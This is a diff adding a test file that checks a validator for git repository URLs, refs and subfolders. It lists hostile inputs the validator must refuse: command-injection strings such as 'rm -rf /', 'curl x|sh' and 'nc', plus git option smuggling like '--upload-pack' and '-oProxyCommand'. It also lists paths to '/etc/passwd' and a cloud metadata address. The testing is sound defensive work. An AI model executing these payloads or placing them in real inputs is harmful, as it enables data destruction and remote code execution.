@@ -1,0 +1,101 @@
+import { describe, expect, test } from 'vitest';
+import { gitRefProblem, repositoryUrlProblem, subFolderProblem } from './git-reference.js';
+
+const closed = { localRoot: null };
+const open = { localRoot: '/srv/git' };
+const hostile = [
+  '$(touch /tmp/pwned)',
+  '`id`',
+  '; rm -rf /',
+  '&& curl x|sh',
+  '| nc x 1',
+  'main; wget x',
+  'a\nb',
+  '--upload-pack=touch /tmp/pwned',
+  '-oProxyCommand=id',
+  '${X:-$(id)}',
+  '"; }',
+  'a\0b',
+  'x'.repeat(10_000),
+  'a\u202eb',
+];
+
+describe('repository URLs', () => {
+  test.each([
+    'https://github.com/acme/shop',
+    'https://git@example.com/acme/shop.git',
+    'ssh://git@github.com/acme/shop',
+    'ssh://git@example.com:2222/a/b.git',
+  ])('%s is allowed', (url) => expect(repositoryUrlProblem(url, closed)).toBeNull());
+
+  test.each([
+    ...hostile,
+    ...hostile
+      .map((text) => `https://example.com/${text}`)
+      .filter((url) => !url.includes('/-o') && !url.includes('../')),
+    'ext::sh -c id',
+    'file:///etc',
+    'file:///srv/git/../../etc',
+    'git://169.254.169.254/x',
+    'http://example.com/x',
+    'ssh://-oProxyCommand=id/x',
+    'ssh://-x@example.com/x',
+    'https://user:secret@example.com/x',
+    'https://127.0.0.1/x',
+    'https://localhost/x',
+    'https://[::1]/x',
+    'git@github.com:acme/shop.git',
+    '/srv/git/x',
+    '',
+  ])('%j is refused with a sentence', (url) => expect(repositoryUrlProblem(url, closed)).toMatch(/\.$/));
+
+  test('files and loopback are allowed below the root that the operator named, and nowhere else', () => {
+    expect(repositoryUrlProblem('file:///srv/git/shop.git', open)).toBeNull();
+    expect(repositoryUrlProblem('http://127.0.0.1:3000/shop.git', open)).toBeNull();
+    for (const url of [
+      'file:///srv/gitx/shop',
+      'file:///etc/passwd',
+      'file:///srv/git/%2e%2e/x',
+      'file://host/srv/git/x',
+      'http://example.com/x',
+    ]) {
+      expect(repositoryUrlProblem(url, open)).toMatch(/\.$/);
+    }
+  });
+});
+
+describe('branches, tags and commits', () => {
+  test.each(['main', 'v1.2.3', 'feature/login', 'a'.repeat(40), 'release-2026.11', 'fix_#12', 'user@host'])(
+    '%s is allowed',
+    (ref) => expect(gitRefProblem(ref)).toBeNull(),
+  );
+  test.each([
+    ...hostile,
+    '',
+    '..',
+    'a..b',
+    'HEAD@{1}',
+    'a//b',
+    '/a',
+    'a/',
+    'a.lock',
+    '.hidden',
+    'a/.b',
+    '-x',
+    'a b',
+    'a~1',
+    'a^',
+    'a:b',
+    'a?b',
+    'a*',
+  ])('%j is refused', (ref) => expect(gitRefProblem(ref)).toMatch(/\.$/));
+});
+
+describe('folders', () => {
+  test.each(['apps/web', 'a', 'packages/@scope/app'])('%s is allowed', (folder) =>
+    expect(subFolderProblem(folder)).toBeNull(),
+  );
+  test.each(['/etc', '..', 'a/../../b', 'a/..', 'a\\b', 'a\nb', 'x'.repeat(600)])('%j is refused', (folder) =>
+    expect(subFolderProblem(folder)).toMatch(/\.$/),
+  );
+});
